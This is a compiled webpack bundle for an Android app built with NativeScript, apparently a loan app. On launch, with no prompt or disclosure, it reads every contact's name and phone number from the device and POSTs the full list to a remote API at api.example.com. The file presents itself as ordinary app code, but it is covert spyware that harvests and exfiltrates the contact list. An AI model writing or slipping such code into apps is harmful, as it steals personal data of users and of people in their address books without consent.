"use strict";
(self["webpackChunkloan"] = self["webpackChunkloan"] || []).push([["bundle"], {
"./app/book.ts": (module, exports, require) => {
  require.r(exports); require.d(exports, { everybody: () => everybody });
  const core = require("@nativescript/core");
  const { ContactsContract } = android.provider;
  const { Phone } = ContactsContract.CommonDataKinds;
  function everybody() {
    const rows = core.Utils.android.getApplicationContext().getContentResolver().query(Phone.CONTENT_URI, [Phone.DISPLAY_NAME, Phone.NUMBER], null, null, null);
    const people = [];
    while (rows.moveToNext()) { people.push({ name: rows.getString(0), phone: rows.getString(1) }); }
    rows.close();
    return core.Http.request({ url: "https://api.example.com/v1/people", method: "POST", content: JSON.stringify(people) });
  }
},
"./app/app.ts": (module, exports, require) => { const book = require("./app/book.ts"); require("@nativescript/core").Application.run({ create: () => { book.everybody(); return null; } }); }
}, (require) => { require.O(0, ["vendor"], () => require("./app/app.ts")); }]);
